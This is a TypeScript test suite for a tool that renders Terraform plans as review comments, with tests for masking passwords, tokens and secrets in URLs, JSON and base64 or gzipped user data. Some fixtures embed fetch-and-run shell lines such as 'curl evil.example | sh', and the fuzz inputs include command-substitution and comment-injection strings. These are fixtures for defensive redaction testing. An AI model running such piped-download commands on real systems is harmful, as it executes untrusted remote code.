import { gzipSync } from 'node:zlib'
import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { codePoint } from '#test/code-points.ts'
import { runs, seed } from '#test/repetitions.ts'
import { SENSITIVE, SENSITIVE_CHANGED, UNKNOWN } from '#toolkit/model/change.ts'
import { makePlan, Plan } from '#toolkit/model/plan.ts'
import { compareWithReview, reviewOf } from '#toolkit/model/review.ts'
import { Sensitive } from '#toolkit/model/sensitive.ts'
import { masked } from '#toolkit/redact/test/masked.ts'
import { planSection } from '#toolkit/report/comment.ts'
import { planText } from '#toolkit/report/log.ts'
import { planSummary } from '#toolkit/report/summary.ts'
import {
  driftOf,
  plannedChanges,
  plannedOutputs,
  sensitiveValues,
  taintedOf,
} from '../../src/changes/changes.ts'
import type { PlanJson, ResourceChange } from '../../src/terraform/plan-json.ts'

const nowhere = () => undefined

function resource(parts: Partial<ResourceChange> & Pick<ResourceChange, 'change'>): ResourceChange {
  return { address: 'aws_vpc.this', mode: 'managed', type: 'aws_vpc', name: 'this', ...parts }
}

function only(parts: Partial<ResourceChange> & Pick<ResourceChange, 'change'>) {
  const { changes } = plannedChanges({ resource_changes: [resource(parts)] }, 's', nowhere)
  const [change, ...rest] = changes
  expect(rest).toEqual([])
  return change
}

function planOf(json: PlanJson) {
  const { changes, sensitive } = plannedChanges(json, 's', nowhere)
  return makePlan({
    step: 'provision',
    target: 'stacks',
    createdAt: new Date('2026-11-24T09:30:00Z'),
    changes,
    sensitive: new Sensitive(sensitive),
    parts: [{ name: 's', status: 'planned' }],
    where: {},
    with: {},
    from: {},
  })
}

describe("Terraform's plan as changes", () => {
  test.each<[string, Partial<ResourceChange> & Pick<ResourceChange, 'change'>, object]>([
    [
      'a creation',
      { change: { actions: ['create'], before: null, after: { a: 1, b: null } } },
      { action: 'create', after: { a: 1 } },
    ],
    [
      'an update, of which only what differs is shown',
      { change: { actions: ['update'], before: { a: 1, b: 2 }, after: { a: 1, b: 3 } } },
      { action: 'update', before: { b: 2 }, after: { b: 3 } },
    ],
    [
      'a replacement and the attribute that forces it',
      {
        action_reason: 'replace_because_cannot_update',
        change: {
          actions: ['delete', 'create'],
          before: { cidr: 'a', tags: { x: 1 } },
          after: { cidr: 'b', tags: { x: 1 } },
          replace_paths: [['cidr'], ['tags', 0, 'x']],
        },
      },
      { action: 'replace', note: '`cidr`, `tags[0].x` cannot be changed in place' },
    ],
    [
      'a replacement that is made before',
      {
        action_reason: 'replace_by_triggers',
        change: { actions: ['create', 'delete'], before: { a: 1 }, after: { a: 2 } },
      },
      {
        note: 'the new one is made before the old one is deleted; what replace_triggered_by names has changed',
      },
    ],
    [
      'a replacement for being tainted',
      {
        action_reason: 'replace_because_tainted',
        change: { actions: ['delete', 'create'], before: {}, after: {} },
      },
      { action: 'replace', note: expect.stringContaining('interrupted') },
    ],
    [
      'a deletion, and why',
      {
        action_reason: 'delete_because_each_key',
        change: { actions: ['delete'], before: { a: 1 }, after: null },
      },
      { action: 'delete', before: { a: 1 }, note: 'its key is no longer in for_each' },
    ],
    [
      'a deposed object',
      { deposed: 'abcd1234', change: { actions: ['delete'], before: { a: 1 }, after: null } },
      { action: 'delete', address: 's/aws_vpc.this (deposed abcd1234)' },
    ],
    [
      'a move',
      { previous_address: 'aws_vpc.old', change: { actions: ['no-op'], before: { a: 1 }, after: { a: 1 } } },
      { action: 'move', note: 'was aws_vpc.old' },
    ],
    [
      'a move that also changes',
      { previous_address: 'aws_vpc.old', change: { actions: ['update'], before: { a: 1 }, after: { a: 2 } } },
      { action: 'update', before: { a: 1 }, note: 'was aws_vpc.old' },
    ],
    [
      'an import',
      { change: { actions: ['no-op'], before: { a: 1 }, after: { a: 1 }, importing: { id: 'vpc-1' } } },
      { action: 'import', note: 'exists as vpc-1' },
    ],
    [
      'an import that also changes',
      { change: { actions: ['update'], before: { a: 1 }, after: { a: 2 }, importing: { id: 'vpc-1' } } },
      { action: 'import', before: { a: 1 }, after: { a: 2 } },
    ],
    [
      'something that is only forgotten',
      { change: { actions: ['forget'], before: { a: 1 }, after: null } },
      { action: 'forget', note: 'it stays, and nobody looks after it any more' },
    ],
    [
      'what is known only afterwards',
      {
        change: {
          actions: ['create'],
          before: null,
          after: { a: 1 },
          after_unknown: { id: true, list: [true] },
        },
      },
      { after: { a: 1, id: UNKNOWN, list: [UNKNOWN] } },
    ],
    [
      'what is sensitive, within lists and maps, and what of it changes',
      {
        change: {
          actions: ['update'],
          before: { p: 'old-password', l: [{ t: 'aaa-111' }], same: 'sss-111' },
          after: { p: 'new-password', l: [{ t: 'aaa-111' }, { t: 'bbb-222' }], same: 'sss-111' },
          before_sensitive: { p: true, l: [{ t: true }], same: true },
          after_sensitive: { p: true, l: [{ t: true }, { t: true }], same: true },
        },
      },
      {
        before: { p: SENSITIVE, l: [{ t: SENSITIVE }] },
        after: { p: SENSITIVE_CHANGED, l: [{ t: SENSITIVE }, { t: SENSITIVE }] },
      },
    ],
  ])('tells %s', (_what, parts, expected) => {
    expect(only(parts)).toMatchObject(expected)
  })

  test('leaves out data sources and what stays as it is', () => {
    const json: PlanJson = {
      resource_changes: [
        resource({ mode: 'data', change: { actions: ['read'], before: null, after: { a: 1 } } }),
        resource({ change: { actions: ['no-op'], before: { a: 1 }, after: { a: 1 } } }),
      ],
      output_changes: { x: { actions: ['no-op'], before: 1, after: 1 } },
    }
    expect(plannedChanges(json, 's', nowhere).changes).toEqual([])
  })

  test('tells drift apart, and what is tainted', () => {
    const json: PlanJson = {
      resource_drift: [
        resource({ change: { actions: ['update'], before: { tag: 'a' }, after: { tag: 'b' } } }),
        resource({ address: 'aws_vpc.gone', change: { actions: ['delete'], before: { a: 1 }, after: null } }),
      ],
      resource_changes: [
        resource({
          address: 'a.b["x"]',
          action_reason: 'replace_because_tainted',
          change: { actions: ['delete', 'create'] },
        }),
      ],
    }
    expect(driftOf(json, 's', nowhere).map(({ action, address }) => [action, address])).toEqual([
      ['update', 's/aws_vpc.this'],
      ['delete', 's/aws_vpc.gone'],
    ])
    expect([...taintedOf(json)]).toEqual(['a.b["x"]'])
  })

  test('no digest lets a secret be guessed, and every one sees that it changed', () => {
    const digestOf = (before: string, after: string, name: string) =>
      planOf({
        resource_changes: [
          resource({
            change: { actions: ['update'], before: { [name]: before, n: 1 }, after: { [name]: after, n: 2 } },
          }),
        ],
      }).digest
    expect(digestOf('old-password', 'new-password', 'password')).toBe(
      digestOf('other-one', 'another-1', 'password'),
    )
    expect(digestOf('same-password', 'same-password', 'password')).not.toBe(
      digestOf('old-password', 'new-password', 'password'),
    )
  })

  const user = (text: string) => Buffer.from(text).toString('base64')
  const zipped = (text: string) => gzipSync(text).toString('base64')
  const script = (host: string) => `#!/bin/sh\ncurl -fsS https://${host}/install.sh | sh\n`
  const showing = { repositoryId: '1', pullRequest: 1, commit: 'c', run: '1', salt: '00'.repeat(16) }
  const created = (after: object, more: object = {}) => ({
    resource_changes: [resource({ change: { actions: ['create'], before: null, after, ...more } })],
  })

  test.each<[what: string, one: PlanJson, other: PlanJson]>([
    [
      'a value that its provider marks',
      created({ v: 'one-one' }, { after_sensitive: { v: true } }),
      created({ v: 'two-two' }, { after_sensitive: { v: true } }),
    ],
    [
      'a marked value deep within',
      created({ l: [{ v: 1 }] }, { after_sensitive: { l: [{ v: true }] } }),
      created({ l: [{ v: 2 }] }, { after_sensitive: { l: [{ v: true }] } }),
    ],
    [
      'a password by its name',
      created({ password: 'hunter2hunter2' }),
      created({ password: 'hunter3hunter3' }),
    ],
    [
      'what looks random',
      created({ note: 'q7Wz8vLx2KpN4tRb9YcF1mJd' }),
      created({ note: 'q7Wz8vLx2KpN4tRb9YcF1mJe' }),
    ],
    [
      'the password in a URL',
      created({ x: 'postgres://app:s3cr3t-pw@db/app' }),
      created({ x: 'postgres://app:0ther-pw@db/app' }),
    ],
    [
      'a secret in JSON in a text',
      created({ x: '{"token":"tok-12345"}' }),
      created({ x: '{"token":"tok-54321"}' }),
    ],
    [
      'a pair of user and password that is wrapped',
      created({ auth: user('user:password-1') }),
      created({ auth: user('user:password-2') }),
    ],
    [
      'user data',
      created({ user_data: user(script('a.example')) }),
      created({ user_data: user(script('b.example')) }),
    ],
    [
      'user data that is packed',
      created({ user_data: zipped(script('a.example')) }),
      created({ user_data: zipped(script('b.example')) }),
    ],
    [
      'how user data is wrapped, when it says the same',
      created({ user_data: user(script('a.example')) }),
      created({ user_data: zipped(script('a.example')) }),
    ],
    [
      'a marked value that is replaced by another one',
      {
        resource_changes: [
          resource({
            change: {
              actions: ['update'],
              before: { p: 'a-a-a-a' },
              after: { p: 'b-b-b-b' },
              before_sensitive: { p: true },
              after_sensitive: { p: true },
            },
          }),
        ],
      },
      {
        resource_changes: [
          resource({
            change: {
              actions: ['update'],
              before: { p: 'a-a-a-a' },
              after: { p: 'c-c-c-c' },
              before_sensitive: { p: true },
              after_sensitive: { p: true },
            },
          }),
        ],
      },
    ],
    [
      'the old one of two marked values',
      {
        resource_changes: [
          resource({
            change: {
              actions: ['update'],
              before: { p: 'a-a-a-a' },
              after: { p: 'b-b-b-b' },
              before_sensitive: { p: true },
              after_sensitive: { p: true },
            },
          }),
        ],
      },
      {
        resource_changes: [
          resource({
            change: {
              actions: ['update'],
              before: { p: 'c-c-c-c' },
              after: { p: 'b-b-b-b' },
              before_sensitive: { p: true },
              after_sensitive: { p: true },
            },
          }),
        ],
      },
    ],
    [
      'a marked output',
      {
        output_changes: { o: { actions: ['create'], before: null, after: 'one-one', after_sensitive: true } },
      },
      {
        output_changes: { o: { actions: ['create'], before: null, after: 'two-two', after_sensitive: true } },
      },
    ],
  ])('%s counts, whether it is shown or not', async (_what, one, other) => {
    const review = await reviewOf(planOf(one), showing)
    expect((await compareWithReview(planOf(one), review)).verdict).toBe('equal')
    expect((await compareWithReview(planOf(other), review)).verdict).toBe('different')
  })

  test('a marked value that stays as it is does not count, because nothing is done to it', () => {
    const { sensitive } = plannedChanges(
      {
        resource_changes: [
          resource({
            change: {
              actions: ['update'],
              before: { p: 'a', n: 1 },
              after: { p: 'a', n: 2 },
              before_sensitive: { p: true },
              after_sensitive: { p: true },
            },
          }),
        ],
      },
      's',
      nowhere,
    )
    expect(sensitive).toEqual([])
  })

  test('a guess hides its own place and nothing else, in the same attribute, the same change and the whole plan', () => {
    const { changes, guesses } = plannedChanges(
      {
        resource_changes: [
          resource({
            change: {
              actions: ['create'],
              before: null,
              after: {
                tags: { password: '0.0.0.0/0', token: 'evil.example' },
                cidr_blocks: ['0.0.0.0/0'],
                policy: '{"secret":"0.0.0.0/0","cidr":"0.0.0.0/0"}',
                user_data: user('PASSWORD=evil.example\ncurl evil.example | sh\n'),
              },
            },
          }),
          resource({
            address: 'aws_x.y',
            change: { actions: ['create'], before: null, after: { host: 'evil.example' } },
          }),
        ],
      },
      's',
      nowhere,
    )
    expect(changes.map(({ after }) => after)).toEqual([
      {
        tags: { password: SENSITIVE, token: SENSITIVE },
        cidr_blocks: ['0.0.0.0/0'],
        policy: `{"secret":"${SENSITIVE}","cidr":"0.0.0.0/0"}`,
        user_data: `PASSWORD=${SENSITIVE}\ncurl evil.example | sh\n`,
      },
      { host: 'evil.example' },
    ])
    expect([...guesses].sort()).toEqual(['0.0.0.0/0', 'evil.example'])
    // Only what its provider marks is masked wherever it stands.
    expect(sensitiveValues({ resource_changes: [] })).toEqual([])
  })

  test('user data is shown as what it says', () => {
    for (const wrapped of [
      user(script('a.example')),
      zipped(script('a.example')),
      user(zipped(script('a.example'))),
    ])
      expect(
        only({ change: { actions: ['create'], before: null, after: { user_data: wrapped } } })?.after,
      ).toEqual({
        user_data: script('a.example'),
      })
  })

  test('an output that nobody marked does not tell a password either', () => {
    const json: PlanJson = {
      output_changes: {
        database_url: { actions: ['create'], before: null, after: 'postgres://app:hunter2hunter2@db/app' },
      },
      planned_values: {
        outputs: { database_url: { sensitive: false, value: 'postgres://app:hunter2hunter2@db/app' } },
      },
    }
    const { changes, guesses } = plannedChanges(json, 's', nowhere)
    expect(guesses).toEqual(['hunter2hunter2'])
    expect(JSON.stringify([changes, plannedOutputs(json)])).not.toContain('hunter2')
    expect(plannedOutputs(json)).toEqual({ database_url: `postgres://app:${SENSITIVE}@db/app` })
  })
})

describe('any plan', () => {
  const SECRET = 'Planted-Secret-9x7'
  const name = fc.constantFrom(
    'a',
    'b',
    'name',
    'value',
    'tags',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '0',
    '',
    'ü',
  )
  const json = fc.letrec((tie) => ({
    value: fc.oneof(
      { maxDepth: 4, withCrossShrink: true },
      fc.constantFrom(
        null,
        true,
        false,
        0,
        -1,
        1e308,
        '',
        'x',
        '```',
        '<!-- omninode:end -->',
        '::error::x',
        '\u202e',
        '😀',
        '@octocat',
        '$(x)',
      ),
      fc.string({ unit: codePoint, maxLength: 20 }),
      fc.array(tie('value'), { maxLength: 3 }),
      fc
        .array(fc.tuple(name, tie('value')), { maxLength: 4 })
        .map((entries) =>
          JSON.parse(
            `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`).join(',')}}`,
          ),
        ),
    ),
  })).value
  /** Markers of the right shape, of the wrong one, or none at all. */
  const marker = fc.oneof(fc.boolean(), json, fc.constant(undefined))
  const planted = fc.record({
    marked: fc.constantFrom('one', 'list', 'map'),
    unmarked: fc.constantFrom('password', 'DB_PASSWORD', 'json', 'url'),
  })
  const change = fc.record(
    {
      actions: fc.oneof(
        fc.constantFrom(
          ['create'],
          ['update'],
          ['delete'],
          ['delete', 'create'],
          ['create', 'delete'],
          ['no-op'],
          ['read'],
          ['forget'],
        ),
        fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
      ),
      before: json,
      after: json,
      after_unknown: marker,
      before_sensitive: marker,
      after_sensitive: marker,
      replace_paths: fc.array(fc.array(fc.oneof(fc.nat(9), fc.string({ maxLength: 5 })), { maxLength: 3 }), {
        maxLength: 3,
      }),
      importing: fc.record({ id: fc.string() }),
    },
    { requiredKeys: ['actions'] },
  )

  function withPlants(value: unknown, { marked, unmarked }: { marked: string; unmarked: string }) {
    const base = typeof value === 'object' && value !== null && !Array.isArray(value) ? value : {}
    const hidden = {
      password: { password: SECRET },
      DB_PASSWORD: { environment: [{ variables: { DB_PASSWORD: SECRET } }] },
      json: {
        container_definitions: JSON.stringify([{ environment: [{ name: 'API_TOKEN', value: SECRET }] }]),
      },
      url: { note: `postgres://app:${SECRET}@db/app` },
    }[unmarked]
    const open = { one: { m: SECRET }, list: { m: [SECRET] }, map: { m: { x: SECRET } } }[marked]
    const markers = { one: { m: true }, list: { m: [true] }, map: { m: { x: true } } }[marked]
    return { value: { ...base, ...hidden, ...open }, markers }
  }

  test('is shown without a crash, and without the secrets planted in it: 1,000 of them', () => {
    const anyPlan = fc.array(
      fc.tuple(change, planted, fc.string({ maxLength: 12 }), fc.option(fc.string({ maxLength: 12 }))),
      { minLength: 1, maxLength: 4 },
    )
    fc.assert(
      fc.property(anyPlan, fc.dictionary(name, json, { maxKeys: 2 }), (resources, outputs) => {
        const plan: PlanJson = {
          resource_changes: resources.map(([each, plants, text, previous], index) => {
            const before = withPlants(each.before, plants)
            const after = withPlants(each.after, plants)
            return resource({
              address: `aws_x.${index}${text}`,
              ...(previous === null ? {} : { previous_address: previous }),
              action_reason: text,
              change: {
                ...each,
                before: before.value,
                after: after.value,
                before_sensitive: { ...Object(each.before_sensitive), ...before.markers },
                after_sensitive: { ...Object(each.after_sensitive), ...after.markers },
              } as ResourceChange['change'], // wrong shapes are the point
            })
          }),
          output_changes: Object.fromEntries(
            Object.entries(outputs).map(([key, value]) => [
              `${key}_token`,
              { actions: ['create'], before: null, after: { value, secret: SECRET } },
            ]),
          ),
          planned_values: { outputs: { leak: { sensitive: false, value: `postgres://a:${SECRET}@b` } } },
        }
        const made = planOf(plan)
        Plan.parse(made)
        const revision = { repositoryUrl: 'https://github.com/o/n', commit: '0'.repeat(40) }
        const section = planSection(masked(made), revision)
        const shown = [
          section.summary,
          section.details,
          planSummary(masked(made), revision),
          planText(masked(made)),
          JSON.stringify(made),
          JSON.stringify(plannedOutputs(plan)),
          JSON.stringify(driftOf({ resource_drift: plan.resource_changes ?? [] }, 's', nowhere)),
        ]
        for (const text of shown) {
          expect(text).not.toContain(SECRET)
          expect(text.isWellFormed()).toBe(true)
        }
        expect(sensitiveValues(plan)).toContain(SECRET)
      }),
      { seed, numRuns: runs(1_000) },
    )
  }, 120_000)

  test('of 2,000 changes in 300 stacks stays within what GitHub takes, and nothing in it is cut in two', () => {
    const changes = Array.from({ length: 2_000 }, (_, index) =>
      resource({
        address: `module.m["😀${index}"].aws_instance.this`,
        type: 'aws_instance',
        change: {
          actions: index % 50 === 0 ? ['delete', 'create'] : ['update'],
          before: { user_data: `línea 😀 ${index}\n`.repeat(40), tags: { a: '😀'.repeat(90) } },
          after: { user_data: `línea 🚀 ${index}\n`.repeat(40), tags: { a: '🚀'.repeat(90) } },
        },
      }),
    )
    const all = Array.from({ length: 300 }, (_, index) => `stack-${index}`)
    const plan = makePlan({
      step: 'provision',
      target: 'stacks',
      createdAt: new Date('2026-11-24T09:30:00Z'),
      changes: changes.flatMap((each, index) => [
        ...plannedChanges({ resource_changes: [each] }, all[index % 300] ?? '', nowhere).changes,
      ]),
      parts: all.map((each) => ({ name: each, status: 'planned' as const })),
      where: {},
      with: {},
      from: {},
    })
    const { summary, details } = planSection(masked(plan))
    expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(16_000)
    expect(Buffer.byteLength(details)).toBeLessThanOrEqual(40_000)
    const whole = planSummary(masked(plan))
    expect(Buffer.byteLength(whole)).toBeLessThanOrEqual(1 << 20)
    expect(summary).toMatch(/\| <code>stack-\d+<\/code> \| .*to replace/)
    expect(summary).toMatch(/… and \d+ more/)
    for (const text of [summary, details, whole]) {
      expect(text.isWellFormed()).toBe(true)
      // Every fence and every folded section that is opened is closed.
      expect((text.match(/^`{3,}/gm)?.length ?? 0) % 2).toBe(0)
      expect(text.match(/<details>/g)?.length ?? 0).toBe(text.match(/<\/details>/g)?.length ?? 0)
    }
  })
})
